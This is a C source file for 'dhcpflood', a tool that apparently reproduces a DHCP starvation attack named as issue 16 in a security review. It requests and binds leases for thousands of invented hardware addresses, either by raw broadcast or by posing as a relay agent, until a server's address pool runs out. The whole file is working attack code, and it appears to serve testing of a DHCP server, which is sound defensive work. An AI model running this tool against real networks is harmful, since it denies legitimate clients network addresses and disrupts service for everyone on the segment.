/*
 * The review's DHCP attack (issue 16): one host asks for leases for N
 * invented hardware addresses (chaddr 02:fa:ce:00:HI:LO, option 61 left
 * out), all from its own interface's MAC, and binds each one it is
 * offered: DISCOVER, then REQUEST for the OFFER. Every request has the
 * broadcast flag, so the replies reach it. Sends the DISCOVERs of the
 * addresses not offered yet again every second, for SECONDS, then prints
 * "offers=O acks=A".
 *
 * usage: dhcpflood IFACE N SECONDS [FIRST [RELAY SERVER]]
 *   FIRST: the number of the first invented address (default 0), so
 *   that a second run asks for other ones.
 *   RELAY SERVER: act as a relay agent instead (RFC 1542): giaddr RELAY,
 *   an address of IFACE, from RELAY:67 by unicast to SERVER:67 through
 *   a UDP socket, the replies coming back there.
 *
 * Root (an AF_PACKET socket, port 67) in the namespace of IFACE.
 */
#include <sys/socket.h>

#include <arpa/inet.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <net/if.h>
#include <netinet/in.h>

#include <errno.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

#include "wire.h"

#define MAX_FAKE	4096
#define XID_BASE	0x6a700000U

static int	 sock, ifindex, relay = -1;
static uint32_t	 relay_addr, relay_server;
static uint8_t	 state[MAX_FAKE];	/* 0 asked, 1 offered, 2 bound */

static void
chaddr_of(unsigned i, uint8_t mac[6])
{
	mac[0] = 2;
	mac[1] = 0xfa;
	mac[2] = 0xce;
	mac[3] = 0;
	mac[4] = (uint8_t)(i >> 8);
	mac[5] = (uint8_t)i;
}

/* Broadcast from 0.0.0.0:68 to 255.255.255.255:67. */
static void
send_msg(const uint8_t *msg, size_t len)
{
	struct sockaddr_ll sll;
	uint8_t		 pkt[DHCP_MAX_MSG + DHCP_IPUDP_LEN];
	struct sockaddr_in sin;
	size_t		 n;

	if (relay != -1) {
		memset(&sin, 0, sizeof(sin));
		sin.sin_family = AF_INET;
		sin.sin_addr.s_addr = relay_server;
		sin.sin_port = htons(67);
		if (sendto(relay, msg, len, 0, (struct sockaddr *)&sin,
		    sizeof(sin)) == -1)
			perror("sendto");
		return;
	}
	n = ipudp_wrap(pkt, sizeof(pkt), 0, htons(68), INADDR_BROADCAST,
	    htons(67), msg, len);
	memset(&sll, 0, sizeof(sll));
	sll.sll_family = AF_PACKET;
	sll.sll_protocol = htons(ETH_P_IP);
	sll.sll_ifindex = ifindex;
	sll.sll_halen = 6;
	memset(sll.sll_addr, 0xff, 6);
	if (n == 0 || sendto(sock, pkt, n, 0, (struct sockaddr *)&sll,
	    sizeof(sll)) == -1)
		perror("sendto");
}

/* A request of type for invented address i; server and ip for a
 * REQUEST in SELECTING state. */
static void
send_request(unsigned i, int type, uint32_t server, uint32_t ip)
{
	struct dhcp_hdr	 h;
	uint8_t		 msg[300];
	uint32_t	 cookie = htonl(DHCP_COOKIE);
	size_t		 n;

	memset(&h, 0, sizeof(h));
	memset(msg, 0, sizeof(msg));
	h.op = BOOTREQUEST;
	h.htype = 1;
	h.hlen = 6;
	h.xid = htonl(XID_BASE + i);
	h.flags = htons(DHCP_FLAG_BROADCAST);
	h.giaddr = relay_addr;
	chaddr_of(i, h.chaddr);
	memcpy(msg, &h, sizeof(h));
	memcpy(msg + DHCP_FIXED_LEN, &cookie, 4);
	n = DHCP_MIN_LEN;
	msg[n++] = OPT_MSGTYPE;
	msg[n++] = 1;
	msg[n++] = (uint8_t)type;
	if (type == DHCPREQUEST) {
		msg[n++] = OPT_SERVER_ID;
		msg[n++] = 4;
		memcpy(msg + n, &server, 4);
		n += 4;
		msg[n++] = OPT_REQUESTED_IP;
		msg[n++] = 4;
		memcpy(msg + n, &ip, 4);
		n += 4;
	}
	msg[n++] = OPT_END;
	send_msg(msg, sizeof(msg));
}

/* Option code of the reply's options area (opt, len bytes); NULL if
 * absent. */
static const uint8_t *
find_opt(const uint8_t *opt, size_t len, int code)
{
	size_t	i = 0;

	while (i < len && opt[i] != OPT_END) {
		if (opt[i] == OPT_PAD) {
			i++;
			continue;
		}
		if (i + 2 > len || i + 2 + opt[i + 1] > len)
			return NULL;
		if (opt[i] == code)
			return opt + i;
		i += 2 + (size_t)opt[i + 1];
	}
	return NULL;
}

/* A server's reply, the DHCP message m of mlen bytes. */
static void
on_reply(const uint8_t *m, size_t mlen, unsigned first, unsigned n,
    unsigned *offers, unsigned *acks)
{
	struct dhcp_hdr	 h;
	const uint8_t	*t, *sid;
	uint32_t	 server = 0;
	unsigned	 i;

	if (mlen < DHCP_MIN_LEN)
		return;
	memcpy(&h, m, sizeof(h));
	i = ntohl(h.xid) - XID_BASE;
	if (h.op != BOOTREPLY || i < first || i >= first + n ||
	    (t = find_opt(m + DHCP_MIN_LEN, mlen - DHCP_MIN_LEN,
	    OPT_MSGTYPE)) == NULL || t[1] != 1)
		return;
	if (t[2] == DHCPOFFER && state[i] == 0) {
		state[i] = 1;
		(*offers)++;
		if ((sid = find_opt(m + DHCP_MIN_LEN, mlen - DHCP_MIN_LEN,
		    OPT_SERVER_ID)) != NULL && sid[1] == 4)
			memcpy(&server, sid + 2, 4);
		send_request(i, DHCPREQUEST, server, h.yiaddr);
	} else if (t[2] == DHCPACK && state[i] == 1) {
		state[i] = 2;
		(*acks)++;
	}
}

/* A packet to port 68 (no Ethernet header: SOCK_DGRAM). */
static void
on_packet(const uint8_t *p, size_t len, unsigned first, unsigned n,
    unsigned *offers, unsigned *acks)
{
	size_t		 ihl;

	if (len < 28 || (p[0] >> 4) != 4 || p[9] != IPPROTO_UDP)
		return;
	ihl = (size_t)(p[0] & 0x0f) * 4;
	if (len < ihl + 8 || p[ihl + 2] != 0 || p[ihl + 3] != 68)
		return;
	on_reply(p + ihl + 8, len - ihl - 8, first, n, offers, acks);
}

/* The relay's socket: RELAY:67. */
static int
relay_socket(const char *addr, const char *server)
{
	struct sockaddr_in sin;
	int		 fd;

	memset(&sin, 0, sizeof(sin));
	sin.sin_family = AF_INET;
	sin.sin_port = htons(67);
	if (inet_pton(AF_INET, addr, &sin.sin_addr) != 1 ||
	    inet_pton(AF_INET, server, &relay_server) != 1) {
		fprintf(stderr, "dhcpflood: bad address\n");
		return -1;
	}
	relay_addr = sin.sin_addr.s_addr;
	if ((fd = socket(AF_INET, SOCK_DGRAM, 0)) == -1 ||
	    bind(fd, (struct sockaddr *)&sin, sizeof(sin)) == -1) {
		perror(addr);
		return -1;
	}
	return fd;
}

static double
now_s(void)
{
	struct timespec	ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + ts.tv_nsec / 1e9;
}

int
main(int argc, char **argv)
{
	struct sockaddr_ll sll;
	struct pollfd	 pfd;
	uint8_t		 buf[4096];
	unsigned	 n, first = 0, i, offers = 0, acks = 0;
	double		 end, next = 0;
	ssize_t		 r;

	if (argc < 4 || argc == 6 || argc > 7 ||
	    (n = (unsigned)atoi(argv[2])) == 0 ||
	    (argc > 4 && (first = (unsigned)atoi(argv[4])) > 0xffff) ||
	    first + n > MAX_FAKE) {
		fprintf(stderr, "usage: dhcpflood IFACE N SECONDS "
		    "[FIRST [RELAY SERVER]]\n");
		return 2;
	}
	if (argc == 7 && (relay = relay_socket(argv[5], argv[6])) == -1)
		return 1;
	if ((ifindex = (int)if_nametoindex(argv[1])) == 0 ||
	    (sock = socket(AF_PACKET, SOCK_DGRAM, htons(ETH_P_IP))) == -1) {
		perror(argv[1]);
		return 1;
	}
	memset(&sll, 0, sizeof(sll));
	sll.sll_family = AF_PACKET;
	sll.sll_protocol = htons(ETH_P_IP);
	sll.sll_ifindex = ifindex;
	if (bind(sock, (struct sockaddr *)&sll, sizeof(sll)) == -1) {
		perror("bind");
		return 1;
	}
	end = now_s() + atof(argv[3]);
	pfd.fd = relay != -1 ? relay : sock;
	pfd.events = POLLIN;
	while (now_s() < end) {
		if (now_s() >= next) {
			for (i = first; i < first + n; i++)
				if (state[i] == 0)
					send_request(i, DHCPDISCOVER, 0, 0);
			next = now_s() + 1;
		}
		if (poll(&pfd, 1, 50) <= 0)
			continue;
		while ((r = recv(pfd.fd, buf, sizeof(buf), MSG_DONTWAIT)) > 0)
			if (relay != -1)
				on_reply(buf, (size_t)r, first, n, &offers,
				    &acks);
			else
				on_packet(buf, (size_t)r, first, n, &offers,
				    &acks);
	}
	printf("offers=%u acks=%u\n", offers, acks);
	return 0;
}
